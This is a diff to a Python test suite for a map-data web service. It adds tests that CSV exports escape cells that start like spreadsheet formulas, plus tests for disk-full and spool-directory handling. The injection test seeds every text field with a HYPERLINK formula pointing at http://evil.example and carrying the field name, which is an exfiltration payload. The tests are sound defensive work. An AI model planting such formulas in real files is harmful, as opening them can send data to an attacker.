@@ -176,6 +176,104 @@ def test_csv_opens_in_excel_with_chinese(
     assert labelled.splitlines()[0].startswith("编号,数据来源,来源编号,来源渠道,受理时间")
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_rows(conn: sa.Connection) -> dict[str, dict[str, str]]:
+    """Per layer, the text of the rows written: one row per character of FORMULA_STARTS
+    whose every free-text field starts with it; negative numbers beside them."""
+    written: dict[str, dict[str, str]] = {"service_requests": {}, "enforcement_cases": {}}
+    for i, start in enumerate(FORMULA_STARTS):
+        text = {
+            name: f'{start}HYPERLINK("http://evil.example/?{name}","{i}")'
+            for name in (
+                "source",
+                "source_id",
+                "channel",
+                "category",
+                "department",
+                "description",
+                "address",
+                "coord_system",
+                "status",
+                "satisfaction",
+                "geocode_quality",
+            )
+        }
+        conn.execute(
+            sa.text(
+                f"insert into service_requests ({', '.join(text)}, received_at, street_code, geom) "
+                f"values ({', '.join(':' + n for n in text)}, now(), :street, "
+                "ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
+            ),
+            {**text, "street": A},
+        )
+        written["service_requests"][text["source_id"]] = text["description"]
+        case = {n: text[n] for n in ("source", "source_id", "description", "address", "status")}
+        conn.execute(
+            sa.text(
+                "insert into enforcement_cases (source, source_id, case_no, case_type, agencies, "
+                "description, address, status, opened_at, street_code, geom) values (:source, "
+                ":source_id, :source_id, :status, array[:status, '城管'], :description, :address, "
+                ":status, now(), :street, ST_SetSRID(ST_MakePoint(-0.5, -1.25), 4326))"
+            ),
+            {**case, "street": A},
+        )
+        written["enforcement_cases"][case["source_id"]] = case["description"]
+    return written
+
+
+def _numeric(column: Any) -> bool:
+    return isinstance(column.type, sa.Integer | sa.Float | sa.Numeric)
+
+
+def _assert_no_formula(rows: list[dict[str, str]], layer: str) -> None:
+    """No cell starts like a formula, except numbers, which stay numbers."""
+    published = get_layer(layer).published
+    fields = {f.name: f.column for f in published} | {f.label: f.column for f in published}
+    for row in rows:
+        for name, cell in row.items():
+            if name in ("lon", "lat") or (name in fields and _numeric(fields[name])):
+                if cell:
+                    float(cell)  # a number, not a text with a quote in front
+                continue
+            assert not cell.startswith(FORMULA_STARTS), (layer, name, cell)
+
+
+@pytest.mark.parametrize("layer", ["service_requests", "enforcement_cases"])
+def test_csv_cells_are_never_formulas(
+    client: FlaskClient,
+    connection: sa.Connection,
+    district: Any,  # noqa: F811
+    tmp_path: Path,
+    layer: str,
+) -> None:
+    """Every text field of these rows starts with = + - @ tab or CR: over HTTP (both
+    headings) and from `blockdata export`'s writer, each such cell gets a ' in front and
+    keeps its text, while the negative coordinates stay numbers."""
+    written = _formula_rows(connection)[layer]
+    bodies = [
+        _get(client, layer, f="csv").get_data().decode("utf-8-sig"),
+        _get(client, layer, f="csv", header="label").get_data().decode("utf-8-sig"),
+    ]
+    export.export_file(connection, _slice(layer), "csv", tmp_path / "out.csv", "tester")
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
+        bodies.append(fh.read())
+    labels = get_layer(layer).labels
+    for body, heading in zip(bodies, ("name", "label", "name"), strict=True):
+        rows = list(csv.DictReader(io.StringIO(body, newline="")))
+        assert len(rows) == len(FORMULA_STARTS)
+        _assert_no_formula(rows, layer)
+        key, text = (
+            ("source_id", "description")
+            if heading == "name"
+            else (labels["source_id"], labels["description"])
+        )
+        assert all(r[key].startswith("'") and r[text].startswith("'") for r in rows)
+        assert {r[key][1:]: r[text][1:] for r in rows} == written
+        assert {float(r["lon"]) for r in rows} == {-0.5}
+
+
 def test_polygon_layer_csv_carries_wkt(client: FlaskClient, district: Any) -> None:  # noqa: F811
     rows = list(
         csv.DictReader(io.StringIO(_get(client, "grids", f="csv").get_data().decode("utf-8-sig")))
@@ -289,6 +387,44 @@ def test_a_client_that_hangs_up_leaves_the_connection_usable(
     assert first.startswith(b'{"type": "FeatureCollection"')
     response.close()
     assert connection.execute(sa.text("select count(*) from service_requests")).scalar() == loaded
+
+
+def test_an_export_that_would_fill_the_disk_is_a_503_and_leaves_nothing(
+    app: Flask,
+    client: FlaskClient,
+    connection: sa.Connection,
+    loaded: int,  # noqa: F811
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The spool checks the free space as it grows: below the reserve it stops with a JSON
+    503, no file is left in the spool directory and no export is audited."""
+    spool = tmp_path / "spool"
+    spool.mkdir()
+    app.config["EXPORT_SPOOL_DIR"] = str(spool)
+    monkeypatch.setattr(export, "SPOOL_CHECK", 1)  # look at every chunk
+    monkeypatch.setattr(export, "CHUNK_BYTES", 512)
+    audited = "select count(*) from audit_log where action = 'export'"
+    before = connection.exec_driver_sql(audited).scalar_one()
+    free = __import__("shutil").disk_usage(spool).free
+    monkeypatch.setattr(export, "SPOOL_RESERVE", free * 2)  # more than the disk has
+    response = client.get("/api/layers/service_requests/features")
+    assert response.status_code == 503 and response.is_json
+    assert "磁盘空间不足" in response.get_json()["message"]
+    assert list(spool.iterdir()) == []
+    assert connection.exec_driver_sql(audited).scalar_one() == before
+    monkeypatch.setattr(export, "SPOOL_RESERVE", 0)
+    assert _get(client).status_code == 200
+
+
+def test_an_unwritable_spool_directory_falls_back_to_the_temporary_directory(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    (tmp_path / "spool").write_text("a regular file, not a directory")
+    assert export.spool_directory(tmp_path) is None
+    assert "not writable" in caplog.text
+    (tmp_path / "spool").unlink()
+    assert export.spool_directory(tmp_path) == tmp_path / "spool"
 
 
 # --- files: the four formats ---------------------------------------------------------------
